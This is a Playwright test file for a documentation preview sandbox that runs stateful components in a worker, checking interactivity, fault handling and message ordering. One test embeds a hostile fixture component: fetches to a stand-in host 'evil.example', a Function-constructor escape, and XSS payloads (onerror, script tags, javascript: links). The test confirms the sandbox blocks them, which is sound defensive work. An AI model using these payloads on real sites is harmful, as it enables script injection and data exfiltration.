/** Components with state in the preview: they run in a worker, and the frame shows what they show. */
import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { expect, test } from '../base-test.ts';
import { SandboxPage } from '../pages/sandbox-page.ts';
import { readFolder } from '../support/archives.ts';

const files = Object.fromEntries(
  [...readFolder('fixtures/live').keys()].map((file) => [file, readFileSync(`fixtures/live/${file}`)] as const),
);

/**
 * Lets no word of a page through to the worker that runs components with state, until `releaseWorkers` is called in the frame.
 * Questions whether it answers go through: it is not stuck.
 */
async function holdLiveWorkers(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const held: (() => void)[] = [];
    let isReleased = false;
    const post = MessagePort.prototype.postMessage;
    const isHeld = new WeakSet<MessagePort>();
    MessagePort.prototype.postMessage = function (
      this: MessagePort,
      message: { readonly kind?: string } | undefined,
      ...rest: unknown[]
    ) {
      const send = () => Reflect.apply(post, this, [message, ...rest]);
      if (message?.kind === 'page') isHeld.add(this);
      if (isReleased || !isHeld.has(this) || message?.kind === 'ping') send();
      else held.push(send);
    } as typeof post;
    Object.assign(globalThis, {
      releaseWorkers() {
        isReleased = true;
        for (const send of held) send();
      },
    });
  });
}

test('components react in the preview as in the site', async ({ page }) => {
  const sandbox = new SandboxPage(page);
  const report = await sandbox.open(files);
  expect(report.diagnostics).toEqual([]);
  const { frame } = sandbox;
  await expect(frame.getByText('Ready', { exact: true })).toBeVisible();
  await frame.getByRole('button', { name: 'More', exact: true }).first().click();
  await frame.getByRole('button', { name: 'More', exact: true }).first().click();
  await expect(frame.getByText('Count: 5')).toBeVisible();
  await expect(frame.getByText('Other: 10')).toBeVisible();

  const field = frame.getByLabel('Your name');
  await field.pressSequentially('anna');
  await expect(frame.getByText('Hello ANNA')).toBeVisible();
  await expect(field).toHaveValue('ANNA');
  await expect(field).toBeFocused();

  await frame.getByLabel('Filter cities').fill('ce');
  await expect(frame.locator('li', { hasText: 'Celle' })).toBeVisible();
  await expect(frame.locator('li', { hasText: 'Bremen' })).toHaveCount(0);
  await expect(frame.locator('.callout', { hasText: '1 found' })).toBeVisible();

  await frame.getByRole('button', { name: 'Go to the field' }).click();
  await expect(frame.getByLabel('The field')).toBeFocused();
  await frame.getByRole('button', { name: 'Embolden' }).click();
  await expect(frame.locator('#markup b')).toHaveText('bold');
  await expect(frame.locator('#markup')).toHaveCSS('color', 'rgb(0, 128, 0)');

  await frame.getByRole('button', { name: 'Make it sleepy' }).click();
  await expect(frame.getByText('It is sleepy')).toBeVisible();
  await frame.getByRole('button', { name: 'More about it' }).click();
  await expect(frame.getByText('A card')).toBeVisible();
  await frame.getByRole('button', { name: 'Press me' }).click();
  await expect(frame.getByRole('button', { name: 'Pressed' })).toBeVisible();
});

test('what a component shows stays while its page is typed in elsewhere, and the document stays the site’s', async ({
  page,
}) => {
  const sandbox = new SandboxPage(page);
  const text = files['index.mdx']?.toString() ?? '';
  await sandbox.open(files);
  const { frame } = sandbox;
  await frame.getByRole('button', { name: 'More', exact: true }).first().click();
  await expect(frame.getByText('Count: 4')).toBeVisible();
  const field = frame.getByLabel('Your name');
  await field.fill('bo');
  for (const word of ['After all.', 'After all of it.']) {
    await sandbox.write('index.mdx', text.replace('After.', word).replace('Words of the', `Words, ${word}, of the`));
    await expect(frame.getByText(word, { exact: true })).toBeVisible();
  }
  await expect(frame.getByText('Count: 4')).toBeVisible();
  await expect(frame.getByText('Hello BO')).toBeVisible();
  await expect(frame.getByText('Words, After all of it., of the')).toBeVisible();
  const { rendered, shown } = await sandbox.document();
  const asShown = (html: string) =>
    page.evaluate((given) => new DOMParser().parseFromString(given, 'text/html').body.innerHTML, html);
  expect(await asShown(shown)).toBe(await asShown(rendered));
});

test('a component that never ends is stopped with a word, and the others and the typing go on', async ({ page }) => {
  const sandbox = new SandboxPage(page);
  await sandbox.open(files, 'guides/faults');
  const { frame } = sandbox;
  await frame.getByRole('button', { name: 'More', exact: true }).click();
  await expect(frame.getByText('Count: 1')).toBeVisible();
  await frame.getByRole('button', { name: 'Never ends' }).click();
  await expect.poll(async () => (await sandbox.log()).liveNotes).toEqual([{ kind: 'stopped', component: 'Endless' }]);
  await frame.getByRole('button', { name: 'More', exact: true }).click();
  await expect(frame.getByText('Count: 1')).toBeVisible();
  const text = files['guides/faults.mdx']?.toString() ?? '';
  await sandbox.write('guides/faults.mdx', `${text}\n\nStill here.\n`);
  await expect(frame.getByText('Still here.')).toBeVisible();
});

test('a component that breaks shows its first state and says so', async ({ page }) => {
  const sandbox = new SandboxPage(page);
  await sandbox.open(files, 'guides/faults');
  const { frame } = sandbox;
  await frame.getByRole('button', { name: 'Break' }).click();
  await expect
    .poll(async () => (await sandbox.log()).liveNotes)
    .toEqual([{ kind: 'failed', component: 'Breaks', message: 'On purpose' }]);
  await expect(frame.getByRole('button', { name: 'Break' })).toBeVisible();
  // Mended, nothing is left to be said.
  const text = files['guides/faults.mdx']?.toString() ?? '';
  await sandbox.write('guides/faults.mdx', text.replace("throw new Error('On purpose')", 'return <b>Mended</b>'));
  await frame.getByRole('button', { name: 'Break' }).click();
  await expect(frame.getByText('Mended')).toBeVisible();
  await expect.poll(async () => (await sandbox.log()).liveNotes).toEqual([]);
});

test('what is done before a component’s worker has started comes to it then, in order', async ({ page }) => {
  await holdLiveWorkers(page);
  const sandbox = new SandboxPage(page);
  await sandbox.open(files);
  const { frame } = sandbox;
  const more = frame.getByRole('button', { name: 'More', exact: true });
  await more.first().click();
  await more.first().click();
  await frame.getByRole('button', { name: 'Less', exact: true }).first().click();
  await frame.getByRole('button', { name: 'More about it' }).click();
  const uncontrolled = frame.getByLabel('The field');
  await uncontrolled.fill('kept');
  const field = frame.getByLabel('Your name');
  await field.pressSequentially('an');
  await expect(frame.getByText('Count: 3')).toBeVisible();
  await frame.evaluate(() => (globalThis as unknown as { releaseWorkers: () => void }).releaseWorkers());
  await expect(frame.getByText('Count: 4')).toBeVisible();
  await expect(frame.getByText('A card')).toBeVisible();
  await expect(frame.getByText('Hello AN')).toBeVisible();
  await expect(field).toBeFocused();
  await field.pressSequentially('na');
  await expect(frame.getByText('Hello ANNA')).toBeVisible();
  await expect(uncontrolled).toHaveValue('kept');
});

test('nothing that a component makes is run in the frame, and nothing leaves it', async ({ page }) => {
  const outside: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) outside.push(request.url());
  });
  const sandbox = new SandboxPage(page);
  await sandbox.open({
    'index.mdx': `---
title: Start
---

export const Bad = () => {
  const [state, setState] = useState('before');
  useEffect(() => {
    fetch('https://evil.example/a').catch(() => setState('refused'));
    try { self.constructor.constructor('return fetch')()('https://evil.example/b'); } catch {}
  }, []);
  return (
    <div>
      <p>It is {state}</p>
      <div dangerouslySetInnerHTML={{ __html: '<img src="x" onerror="document.body.dataset.run=1"><script>document.body.dataset.run=2</' + 'script><a href="javascript:alert(1)">link</a>' }} />
      {state === 'refused' && <script>{'document.body.dataset.run = 3'}</script>}
      {state === 'refused' && <a href="javascript:document.body.dataset.run=4">go</a>}
    </div>
  );
};

<Bad />
`,
  });
  const { frame } = sandbox;
  await expect(frame.getByText('It is refused')).toBeVisible();
  await expect.poll(async () => (await sandbox.log()).liveNotes).toEqual([{ kind: 'network', component: 'Bad' }]);
  expect(await frame.evaluate(() => document.body.dataset.run)).toBeUndefined();
  expect(await frame.locator('lw-live script, lw-live [onerror], lw-live a[href^="javascript"]').count()).toBe(0);
  expect(outside).toEqual([]);
});

test('forms, fields that code empties, clicks elsewhere and portals work', async ({ page: harness }) => {
  const sandbox = new SandboxPage(harness);
  await sandbox.open(files, 'guides/odd');
  const { frame: page } = sandbox;
  await page.getByText('The menu is open').click();
  await expect(page.getByText('The menu is open')).toBeVisible();
  await page.getByRole('heading', { name: 'Odd' }).click();
  await expect(page.getByText('The menu is closed')).toBeVisible();
  await page.getByLabel('Who').fill('Anna');
  await page.getByLabel('Town').fill('Celle');
  await page.getByRole('button', { name: 'Send' }).click();
  await expect(page.getByText('Sent Anna of Celle')).toBeVisible();
  await expect(page.getByLabel('Who')).toHaveValue('');
  for (const tag of ['red', 'blue']) {
    await page.getByLabel('New tag').fill(tag);
    await page.getByLabel('New tag').press('Enter');
  }
  await expect(page.getByText('Tags: red, blue')).toBeVisible();
  await expect(page.getByLabel('New tag')).toHaveValue('');
  await page.getByRole('button', { name: 'Open the dialog' }).click();
  await expect(page.getByText('In the dialog')).toBeVisible();
});
